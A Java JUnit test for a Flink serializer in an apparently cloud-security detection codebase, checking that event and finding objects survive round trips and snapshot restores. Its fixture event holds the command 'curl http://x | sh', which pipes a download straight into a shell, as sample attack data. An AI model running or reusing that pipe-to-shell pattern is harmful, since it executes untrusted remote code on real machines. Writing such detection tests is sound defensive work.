package dev.cadet.flink.internal;

import dev.cadet.model.CloudEvent;
import dev.cadet.model.Finding;
import dev.cadet.model.Severity;
import org.apache.flink.api.common.typeutils.TypeSerializer;
import org.apache.flink.api.common.typeutils.TypeSerializerSnapshot;
import org.apache.flink.core.memory.DataInputDeserializer;
import org.apache.flink.core.memory.DataOutputSerializer;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.util.List;

import static dev.cadet.detectors.testkit.E.DAY;
import static dev.cadet.detectors.testkit.E.user;
import static org.assertj.core.api.Assertions.assertThat;

class JavaSerializerTest {

    private static final CloudEvent EVENT = dev.cadet.detectors.testkit.E.command(user("dave")).ip("185.220.101.45")
            .targets("i-0a1b2c3d4e5f60001").lines("curl http://x | sh").at(DAY).build();

    @Test
    void eventsAndFindingsComeBackEqual() throws IOException {
        Finding finding = new Finding(null, "command-execution", Severity.HIGH, DAY, DAY, EVENT.provider(),
                EVENT.principal(), null, "185.220.101.45", EVENT.action(), EVENT.targets(), "ran \u202e a command",
                List.of(EVENT));
        assertThat(roundTrip(new JavaSerializer<>(CloudEvent.class), EVENT)).isEqualTo(EVENT);
        assertThat(roundTrip(new JavaSerializer<>(Finding.class), finding)).isEqualTo(finding);
    }

    @Test
    void copyingSerializedBytesKeepsTheFrame() throws IOException {
        JavaSerializer<CloudEvent> s = new JavaSerializer<>(CloudEvent.class);
        DataOutputSerializer out = new DataOutputSerializer(256);
        s.serialize(EVENT, out);
        DataOutputSerializer copied = new DataOutputSerializer(out.length()); // copy() does not grow the target
        s.copy(new DataInputDeserializer(out.getCopyOfBuffer()), copied);
        assertThat(s.deserialize(new DataInputDeserializer(copied.getCopyOfBuffer()))).isEqualTo(EVENT);
    }

    @Test
    void theSnapshotRestoresTheSameSerializerAndIsCompatibleWithItself() throws IOException {
        JavaSerializer<CloudEvent> s = new JavaSerializer<>(CloudEvent.class);
        DataOutputSerializer out = new DataOutputSerializer(64);
        TypeSerializerSnapshot.writeVersionedSnapshot(out, s.snapshotConfiguration());
        TypeSerializerSnapshot<CloudEvent> read = TypeSerializerSnapshot.readVersionedSnapshot(
                new DataInputDeserializer(out.getCopyOfBuffer()), getClass().getClassLoader());
        assertThat(read.restoreSerializer()).isEqualTo(s);
        assertThat(s.snapshotConfiguration().resolveSchemaCompatibility(read).isCompatibleAsIs()).isTrue();
        assertThat(new JavaSerializer<>(Finding.class).snapshotConfiguration()
                .resolveSchemaCompatibility((TypeSerializerSnapshot) read).isIncompatible()).isTrue();
    }

    private static <T> T roundTrip(TypeSerializer<T> s, T value) throws IOException {
        DataOutputSerializer out = new DataOutputSerializer(256);
        s.serialize(value, out);
        return s.deserialize(new DataInputDeserializer(out.getCopyOfBuffer()));
    }
}
